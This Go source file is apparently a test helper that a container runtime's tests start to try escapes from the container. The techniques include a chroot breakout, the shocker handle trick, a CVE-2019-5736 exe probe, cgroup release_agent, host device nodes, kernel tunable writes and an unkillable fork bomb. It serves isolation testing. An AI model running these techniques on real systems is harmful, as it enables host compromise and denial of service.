// Command attack tries to get out of the container that it is started in, in the way that its first argument names. It
// prints "ESCAPED" and what it reached, or why it did not: nothing else counts. The tests of the runtime start it.
package main

import (
	"fmt"
	"os"
	ossignal "os/signal"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

func main() {
	try := attacks[os.Args[1]]
	if try == nil {
		fmt.Println("no such attack")
		os.Exit(2)
	}
	what, err := try(os.Args[2:])
	if err != nil {
		fmt.Println("refused:", err)
		return
	}
	fmt.Println("ESCAPED:", what)
}

var attacks = map[string]func(args []string) (string, error){
	"chroot": chroot, "handle": handle, "calls": calls, "exe": exe, "descriptors": descriptors, "cgroup": release, "device": device,
	"write": write, "unmask": unmask, "signal": signal, "raw": raw, "fork": fork,
}

// chroot leaves a root that is only a chroot: a directory held open from outside of it leads up without end.
func chroot(args []string) (string, error) {
	if err := os.MkdirAll("/jail", 0o755); err != nil {
		return "", err
	}
	outside, err := unix.Open("/", unix.O_RDONLY|unix.O_DIRECTORY, 0)
	if err != nil {
		return "", err
	}
	if err := unix.Chroot("/jail"); err != nil {
		return "", err
	}
	if err := unix.Fchdir(outside); err != nil {
		return "", err
	}
	for range 64 {
		if err := unix.Chdir(".."); err != nil {
			return "", err
		}
	}
	if err := unix.Chroot("."); err != nil {
		return "", err
	}
	_, err = os.Stat(args[0])
	return args[0], err
}

// handle opens the file system's root by its handle, which needs no path: "shocker".
func handle(args []string) (string, error) {
	mount, err := unix.Open("/etc/hosts", unix.O_RDONLY, 0)
	if err != nil {
		return "", err
	}
	fd, err := unix.OpenByHandleAt(mount, unix.NewFileHandle(1, []byte{2, 0, 0, 0, 0, 0, 0, 0}), unix.O_RDONLY)
	if err != nil {
		return "", err
	}
	return "handle " + strconv.Itoa(fd), nil
}

// calls tries system calls that a container has no business with, with arguments that do no harm where they work. One
// that is let through answers with something else than EPERM or ENOSYS.
func calls([]string) (string, error) {
	empty := uintptr(unsafe.Pointer(&[256]byte{}))
	var through, refused []string
	for _, c := range []struct {
		name       string
		nr         uintptr
		a, b, c, d uintptr
	}{
		{"mount", unix.SYS_MOUNT, empty, empty, empty, 0}, {"umount2", unix.SYS_UMOUNT2, empty, 0, 0, 0},
		{"pivot_root", unix.SYS_PIVOT_ROOT, empty, empty, 0, 0}, {"open_tree clone", unix.SYS_OPEN_TREE, ^uintptr(99), empty, unix.OPEN_TREE_CLONE, 0},
		{"move_mount", unix.SYS_MOVE_MOUNT, ^uintptr(0), empty, ^uintptr(0), empty}, {"fsopen", unix.SYS_FSOPEN, empty, 0, 0, 0},
		{"fsmount", unix.SYS_FSMOUNT, ^uintptr(0), 0, 0, 0}, {"mount_setattr", unix.SYS_MOUNT_SETATTR, ^uintptr(0), empty, 0, empty},
		{"setns", unix.SYS_SETNS, ^uintptr(0), 0, 0, 0}, {"unshare user", unix.SYS_UNSHARE, unix.CLONE_NEWUSER, 0, 0, 0},
		{"unshare mount", unix.SYS_UNSHARE, unix.CLONE_NEWNS, 0, 0, 0}, {"bpf", unix.SYS_BPF, 0, empty, 64, 0},
		{"perf_event_open", unix.SYS_PERF_EVENT_OPEN, empty, 0, ^uintptr(0), ^uintptr(0)}, {"keyctl", unix.SYS_KEYCTL, 0, ^uintptr(2), 0, 0},
		{"add_key", unix.SYS_ADD_KEY, empty, empty, 0, 0}, {"init_module", unix.SYS_INIT_MODULE, empty, 0, empty, 0},
		{"finit_module", unix.SYS_FINIT_MODULE, ^uintptr(0), empty, 0, 0}, {"delete_module", unix.SYS_DELETE_MODULE, empty, 0, 0, 0},
		{"kexec_load", unix.SYS_KEXEC_LOAD, 0, 0, 0, 0}, {"reboot", unix.SYS_REBOOT, 0, 0, 0, 0}, {"swapon", unix.SYS_SWAPON, empty, 0, 0, 0},
		{"swapoff", unix.SYS_SWAPOFF, empty, 0, 0, 0}, {"settimeofday", unix.SYS_SETTIMEOFDAY, 1, 0, 0, 0}, {"acct", unix.SYS_ACCT, empty, 0, 0, 0},
		{"quotactl", unix.SYS_QUOTACTL, 0, empty, 0, 0}, {"sethostname", unix.SYS_SETHOSTNAME, empty, 0, 0, 0},
		{"userfaultfd", unix.SYS_USERFAULTFD, 0, 0, 0, 0}, {"io_uring_setup", unix.SYS_IO_URING_SETUP, 1, 0, 0, 0},
		{"open_by_handle_at", unix.SYS_OPEN_BY_HANDLE_AT, ^uintptr(0), empty, 0, 0}, {"syslog", unix.SYS_SYSLOG, 3, empty, 16, 0},
		{"clone3", unix.SYS_CLONE3, 0, 0, 0, 0}, {"lookup_dcookie", unix.SYS_LOOKUP_DCOOKIE, 0, 0, 0, 0},
		{"move_pages", unix.SYS_MOVE_PAGES, 0, 0, 0, 0}, {"vhangup", unix.SYS_VHANGUP, 0, 0, 0, 0}, {"nfsservctl", unix.SYS_NFSSERVCTL, 0, 0, 0, 0},
	} {
		_, _, e := unix.RawSyscall6(c.nr, c.a, c.b, c.c, c.d, 0, 0)
		if e == unix.EPERM || e == unix.ENOSYS {
			refused = append(refused, c.name)
		} else {
			through = append(through, fmt.Sprintf("%s (%d)", c.name, e))
		}
	}
	if len(through) > 0 {
		return strings.Join(through, ", "), nil
	}
	return "", fmt.Errorf("all %d", len(refused))
}

// exe overwrites the program of whoever enters the container, by /proc/PID/exe: CVE-2019-5736. It watches for a while.
func exe(args []string) (string, error) {
	end := time.Now().Add(seconds(args[0]))
	met := 0
	for time.Now().Before(end) {
		all, _ := filepath.Glob("/proc/[0-9]*/exe")
		for _, path := range all {
			to, err := os.Readlink(path)
			if err != nil || !strings.Contains(to, "minato") && !strings.Contains(to, "memfd") {
				continue
			}
			met++
			for _, flags := range []int{unix.O_WRONLY, unix.O_RDWR, unix.O_WRONLY | unix.O_TRUNC} {
				if fd, err := unix.Open(path, flags, 0); err == nil {
					return fmt.Sprintf("%s is open for writing as %d", to, fd), nil
				}
			}
		}
	}
	return "", fmt.Errorf("met %d", met)
}

func seconds(s string) time.Duration {
	d, err := time.ParseDuration(s)
	if err != nil {
		panic(err)
	}
	return d
}

// descriptors looks through everything that is open, and through the working directory, for a way to the file that
// args names.
func descriptors(args []string) (string, error) {
	for fd := range 256 {
		if fd > 2 { // those that close at an exec are Go's own
			if flags, err := unix.FcntlInt(uintptr(fd), unix.F_GETFD, 0); err == nil && flags&unix.FD_CLOEXEC == 0 {
				to, _ := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", fd))
				return fmt.Sprintf("descriptor %d is %s", fd, to), nil
			}
		}
		if _, err := os.Stat(fmt.Sprintf("/proc/self/fd/%d/../../../../../../../..%s", fd, args[0])); err == nil {
			return fmt.Sprintf("through descriptor %d", fd), nil
		}
	}
	if _, err := os.Stat("../../../../../../../../.." + args[0]); err == nil {
		return "through the working directory", nil
	}
	return "", fmt.Errorf("nothing open")
}

// release makes the kernel run a program of the container's on the machine when a cgroup becomes empty.
func release([]string) (string, error) {
	_ = unix.Mkdir("/cg", 0o755)
	if err := unix.Mount("cgroup", "/cg", "cgroup", 0, "rdma"); err == nil {
		return "mounted cgroup v1", nil
	}
	if err := unix.Mount("cgroup2", "/cg", "cgroup2", 0, ""); err == nil {
		return "mounted cgroup v2", nil
	}
	files, _ := filepath.Glob("/sys/fs/cgroup/*/release_agent")
	more, _ := filepath.Glob("/sys/fs/cgroup/*/notify_on_release")
	for _, f := range append(append(files, more...), "/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/memory/memory.limit_in_bytes", "/sys/fs/cgroup/memory.max") {
		if fd, err := unix.Open(f, unix.O_WRONLY, 0); err == nil {
			return fmt.Sprint(f, " is writable as ", fd), nil
		}
	}
	return "", fmt.Errorf("%d files", len(files)+len(more))
}

// device makes nodes of devices that are not the container's and opens them.
func device([]string) (string, error) {
	var last error
	for _, d := range []struct {
		kind         uint32
		major, minor uint32
	}{{unix.S_IFCHR, 1, 1}, {unix.S_IFCHR, 1, 2}, {unix.S_IFCHR, 1, 4}, {unix.S_IFCHR, 1, 11}, {unix.S_IFCHR, 10, 237}, {unix.S_IFCHR, 10, 229}, {unix.S_IFCHR, 4, 0},
		{unix.S_IFBLK, 7, 0}, {unix.S_IFBLK, 8, 0}, {unix.S_IFBLK, 253, 0}, {unix.S_IFBLK, 254, 0}, {unix.S_IFBLK, 259, 0}} {
		path := fmt.Sprintf("/node-%d-%d-%d", d.kind, d.major, d.minor)
		if last = unix.Mknod(path, d.kind|0o666, int(unix.Mkdev(d.major, d.minor))); last != nil {
			continue
		}
		for _, flags := range []int{unix.O_RDONLY, unix.O_WRONLY} {
			var fd int
			if fd, last = unix.Open(path, flags|unix.O_NONBLOCK, 0); last == nil {
				return fmt.Sprint(path, " is open as ", fd), nil
			}
			if last != unix.EPERM { // the controller of devices says no before any driver is asked
				return fmt.Sprint(path, ": ", last), nil
			}
		}
	}
	return "", last
}

// write changes what belongs to the machine.
func write([]string) (string, error) {
	var last error
	for _, path := range []string{"/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/vm/panic_on_oom", "/proc/sys/kernel/hostname", "/proc/sysrq-trigger",
		"/proc/irq/0/smp_affinity", "/proc/bus/pci/00/00.0", "/sys/kernel/uevent_helper", "/sys/kernel/mm/transparent_hugepage/enabled", "/sys/power/state",
		"/sys/fs/cgroup/memory/cgroup.procs", "/proc/kcore", "/dev/mem", "/dev/kmsg", "/sys/firmware/efi/vars", "/proc/self/attr/exec-host"} {
		var fd int
		if fd, last = unix.Open(path, unix.O_WRONLY, 0); last == nil {
			return fmt.Sprint(path, " is open as ", fd), nil
		}
	}
	return "", last
}

// unmask uncovers what is masked, and reads it.
func unmask([]string) (string, error) {
	var last error
	for _, path := range []string{"/proc/kcore", "/proc/keys", "/proc/timer_list", "/sys/firmware", "/proc/sys", "/proc"} {
		if last = unix.Unmount(path, unix.MNT_DETACH); last == nil {
			return path + " is uncovered", nil
		}
		if last = unix.Mount("proc", "/tmp", "proc", 0, ""); last == nil {
			return "another proc", nil
		}
	}
	if b, err := os.ReadFile("/proc/keys"); err == nil && len(b) > 0 {
		return "keys", nil
	}
	return "", last
}

// signal reaches for processes that are not the container's.
func signal(args []string) (string, error) {
	pid, err := strconv.Atoi(args[0])
	if err != nil {
		return "", err
	}
	if err := unix.Kill(pid, 0); err != unix.ESRCH {
		return "the process is in reach", nil
	}
	all, _ := filepath.Glob("/proc/[0-9]*")
	if len(all) > 3 {
		return strings.Join(all, " "), nil
	}
	return "", unix.ESRCH
}

// fork makes processes that make processes, without end and whatever becomes of them; it ignores requests to end.
func fork([]string) (string, error) {
	ossignal.Ignore(unix.SIGTERM)
	for {
		_, _ = syscall.ForkExec("/proc/self/exe", []string{"attack", "fork"}, nil)
	}
}

// raw listens to the packets of the node: a raw socket must see the pod's own alone.
func raw([]string) (string, error) {
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW, int(unix.ETH_P_ALL>>8|unix.ETH_P_ALL<<8&0xff00))
	if err != nil {
		return "", err
	}
	unix.Close(fd)
	links, err := os.ReadDir("/sys/class/net")
	if err != nil {
		return "", err
	}
	for _, l := range links {
		if l.Name() != "lo" && l.Name() != "eth0" {
			return l.Name(), nil
		}
	}
	return "", fmt.Errorf("only the pod's own links")
}
